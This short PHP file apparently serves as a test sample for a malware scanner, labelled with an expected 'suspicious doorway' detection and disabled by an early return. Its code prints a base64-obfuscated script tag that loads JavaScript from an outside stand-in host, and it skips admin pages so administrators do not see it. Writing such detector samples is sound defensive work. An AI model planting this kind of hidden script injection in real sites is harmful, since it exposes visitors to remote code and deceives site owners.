<?php return; // want: suspicious doorway php.output.script
define("NAME", "garden");
require_once __DIR__ . "/settings.php";
if (strpos(@$_SERVER["REQUEST_URI"], "/admin") === false) { print(base64_decode("PHNjcmlwdCBzcmM9Ii8vY291bnQuZXhhbXBsZS5uZXQvIj48L3NjcmlwdD4=")); }
